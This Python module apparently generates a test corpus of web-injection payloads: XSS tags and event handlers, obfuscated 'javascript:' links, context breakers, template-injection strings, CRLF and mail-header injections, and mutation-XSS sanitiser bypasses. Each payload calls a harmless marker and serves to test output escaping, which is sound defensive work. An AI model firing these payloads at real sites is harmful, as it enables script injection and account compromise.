# ruff: noqa: E501 - a payload is one line
"""Texts that become more than text wherever somebody forgets that they are text.

Each holds MARK, so that a page can be searched for where it ended up.
"""

from typing import Final

MARK: Final = "kx7z"
CALL: Final = f"{MARK}()"
_TAGS: Final = (
    "script", "img", "svg", "iframe", "body", "input", "details", "video", "audio", "object", "embed",
    "math", "style", "link", "meta", "base", "form", "button", "marquee", "template", "noscript",
    "textarea", "title", "select", "table", "a", "xss", "x-kx", "isindex", "frameset",
)  # fmt: skip
_EVENTS: Final = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerenter",
    "onanimationstart", "onbegin", "hx-on:click", "hx-get", "formaction", "srcdoc", "style",
)  # fmt: skip
_LINKS: Final = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
    "data:text/html,", "data:text/html;base64,", "vbscript:", "javascript&colon;",
    "&#106;avascript:", "&#x6a;avascript:", "//evil.example/", "\\\\evil.example\\", "blob:",
)  # fmt: skip
_BREAKS: Final = (
    '"', "'", "\"'", ">", '">', "'>", "</", "-->", "]]>", "*/", "`", "\\", '\\"', "\x00", '">\n', "&quot;>",
    "&#34;>", "%22%3E", "\u2028", "＂＞", "‹›", "%0d%0a", "\r\n", "</textarea>", "</title>", "</script>",
    "</style>", "</option></select>", "</svg>", "<!--",
)  # fmt: skip
_TEMPLATES: Final = (
    "{{%s}}", '{%% include "%s" %%}', "{{%s|safe}}", "{%% debug %%}%s", "${%s}", "#{%s}", "<%%= %s %%>",
    "{{=%s}}", "{{constructor.constructor('%s')()}}", "{0.__class__}%s", "%%s%%n%s", "%%(%s)s",
    "<c-btn href='%s'>", "{%% load %s %%}",
)  # fmt: skip
_HEADERS: Final = (
    "a\r\nSet-Cookie: %s=1", "a\nLocation: //%s.example", "a\r\n\r\n<script>%s()</script>", "a\rBcc: %s@x.cn",
    "a%%0d%%0aX-%s: 1", "a\u560a\u560dX-%s: 1", "a\x85X-%s: 1", "a\u2028X-%s: 1",
    "=?utf-8?q?%s=0aBcc:?=", "a\n.\r\nMAIL FROM:<%s>",
)  # fmt: skip
_MUTATIONS: Final = (
    '<svg></p><style><a id="</style><img src=1 onerror=%s>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=%s&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=%s>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=%s>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img onerror=%s>">',
    "<svg><animate onbegin=%s attributeName=x dur=1s>", "<svg><set onbegin=%s>",
    '<svg><use href="data:image/svg+xml,%s">', "<scr<script>ipt>%s</scr</script>ipt>",
    "<<script>%s//<</script>", "<script/x>%s</script\t>", "<ScRiPt>%s</sCrIpT>", "<img/src=x/onerror=%s>",
    "<img src=x onerror\x0c=%s>", "<img\x0bsrc=x onerror=%s>", "＜script＞%s＜/script＞",
    "\u202e<script>%s</script>", "+ADw-script+AD4-%s+ADw-/script+AD4-", "%%3Cscript%%3E%s%%3C/script%%3E",
    "&lt;script&gt;%s&lt;/script&gt;", "&amp;lt;script&amp;gt;%s", "\xf0\x9f<script>%s</script>",
)  # fmt: skip


def _built() -> list[str]:
    found = [f"<{tag}>{CALL}</{tag}>" for tag in _TAGS]
    found += [f"<{tag} id={MARK} src=x onerror={CALL}>" for tag in _TAGS]
    found += [f"<img src=x {event}={CALL}>" for event in _EVENTS]
    found += [f"{edge} {event}={CALL} x={edge}" for event in _EVENTS for edge in ('"', "'", "")]
    found += [f'<a href="{link}{CALL}">x</a>' for link in _LINKS]
    found += [f"{link}{CALL}" for link in _LINKS]
    found += [f"{sign}<script>{CALL}</script>" for sign in _BREAKS]
    found += [f"{sign} onfocus={CALL} autofocus {sign}" for sign in _BREAKS]
    found += [f"{sign}{MARK}" for sign in _BREAKS]
    found += [f"{sign}<img src=x onerror={CALL}>" for sign in _BREAKS]
    found += [each % CALL for each in _TEMPLATES + _MUTATIONS]
    found += [each % MARK for each in _HEADERS]
    return list(dict.fromkeys(found))


PAYLOADS: Final = tuple(_built())
